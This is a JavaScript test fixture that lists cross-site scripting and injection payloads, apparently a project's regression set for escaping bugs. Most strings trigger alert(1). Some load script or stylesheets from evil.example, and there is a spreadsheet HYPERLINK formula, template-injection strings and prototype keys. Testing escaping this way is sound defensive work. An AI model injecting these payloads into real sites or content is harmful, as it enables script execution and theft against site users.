// Texts that run, load or lead somewhere where a page fails to escape them, one for each way in. They are ours; every
// fixed hole adds one.
'use strict';

module.exports = [
	// elements
	'<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src="https://evil.example/x.js"></script>',
	'</script><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
	'</style><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\u3000>alert(1)</script>',
	'<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"', '<img/src=x/onerror=alert(1)>',
	'<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<body onload=alert(1)>',
	'<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">',
	'<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
	'<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>',
	'<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction=javascript:alert(1)>x</button>',
	'<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=import href="https://evil.example/">',
	'<style>@import "https://evil.example/x.css";</style>', '<style>*{background:url(https://evil.example/x)}</style>',
	'<template><script>alert(1)</script></template>', '<noscript><img title="</noscript><img src=x onerror=alert(1)>">',
	'<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', ']]><script>alert(1)</script>',
	'<?xml version="1.0"?><script>alert(1)</script>', '<plaintext>', '<xmp><script>alert(1)</script></xmp>',
	// attributes
	'" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
	'" autofocus onfocus=alert(1) x="', '` onmouseover=alert(1)', '" style="background:url(https://evil.example/x)',
	'"><img src=x onerror=alert(1)>', '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;', '&#34;&#62;&#60;script&#62;alert(1)',
	// addresses
	'javascript:alert(1)', '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java&#10;script:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '<javascript:alert(1)>', '![x](javascript:alert(1))',
	'![x" onerror="alert(1)](x)', '[x](https://example.org/" onclick="alert(1))', '[x](//evil.example/)', '[x]: javascript:alert(1)',
	// scripts, templates, tables
	'";alert(1);//', "';alert(1);//", '\\";alert(1);//', '${alert(1)}', '`;alert(1);`', '\u2028alert(1)//', '*/alert(1)/*',
	'{{constructor.constructor("alert(1)")()}}', '{{{body}}}', '{% raw %}', '<%= alert(1) %>', '#{alert(1)}',
	'=HYPERLINK("https://evil.example/")', 'backfile({});alert(1)//', '__proto__', 'constructor',
];
